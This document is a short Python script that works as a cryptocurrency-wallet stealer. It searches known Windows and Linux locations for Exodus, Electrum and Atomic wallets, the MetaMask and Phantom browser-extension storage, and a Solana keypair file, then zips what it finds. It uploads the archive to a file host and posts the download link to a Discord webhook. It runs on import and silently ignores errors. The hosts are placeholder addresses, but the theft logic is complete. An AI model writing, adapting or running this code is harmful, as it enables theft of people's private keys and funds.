import os
import pathlib
import shutil
import tempfile

import requests

_TARGETS = {
    "Exodus": "{APPDATA}/Exodus/exodus.wallet",
    "Electrum": "{APPDATA}/Electrum/wallets",
    "Atomic": "{APPDATA}/atomic/Local Storage/leveldb",
    "MetaMask": "{LOCALAPPDATA}/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
    "Phantom": "{LOCALAPPDATA}/Google/Chrome/User Data/Default/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa",
    "ElectrumLinux": "{HOME}/.electrum/wallets",
    "Solana": "{HOME}/.config/solana/id.json",
}


def _expand(t):
    return t.format(APPDATA=os.getenv("APPDATA", ""), LOCALAPPDATA=os.getenv("LOCALAPPDATA", ""), HOME=str(pathlib.Path.home()))


def _collect():
    work = tempfile.mkdtemp()
    hit = False
    for name, tmpl in _TARGETS.items():
        p = _expand(tmpl)
        if os.path.isdir(p):
            shutil.copytree(p, os.path.join(work, name), dirs_exist_ok=True)
            hit = True
        elif os.path.isfile(p):
            shutil.copy(p, os.path.join(work, name))
            hit = True
    if not hit:
        return
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "w3"), "zip", work)
    srv = requests.get("https://api.gofile.example.invalid/getServer", timeout=5).json()["data"]["server"]
    with open(archive, "rb") as fh:
        up = requests.post("https://%s.gofile.example.invalid/uploadFile" % srv, files={"file": fh}, timeout=30).json()
    requests.post("https://discord.example.invalid/api/webhooks/9/placeholder", json={"content": up["data"]["downloadPage"]})


try:
    _collect()
except Exception:
    pass
